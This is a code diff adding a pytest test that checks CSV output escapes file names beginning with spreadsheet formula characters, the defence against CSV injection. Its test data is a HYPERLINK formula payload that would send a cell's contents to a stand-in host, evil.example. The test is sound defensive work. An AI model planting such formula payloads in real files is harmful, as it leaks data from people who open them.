@@ -42,6 +42,20 @@ def test_csv(tmp_path):
     assert (found[2]["error"], found[2]["raw_score"]) == ("broken", "")
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_name_becomes_a_formula_of_a_spreadsheet(tmp_path, start):
+    """A file can be called =HYPERLINK("http://evil.example"), and its error begins with its name."""
+    name = f'{start}HYPERLINK("http://evil.example?"&A1,"x").jpg'
+    write_table(tmp_path / "t.csv", [result(name, error=f"{name} is broken", raw_score=-1.5)])
+    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["path"] == f"'{name}"
+    assert row["error"] == f"'{name} is broken"
+    assert row["raw_score"] == "-1.5", "a number stays one"
+    write_table(tmp_path / "t.jsonl", [result(name)])
+    assert json.loads((tmp_path / "t.jsonl").read_text())["path"] == name
+
+
 def test_json_lines(tmp_path):
     write_table(tmp_path / "t.jsonl", RESULTS)
     found = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text("ascii").splitlines()]
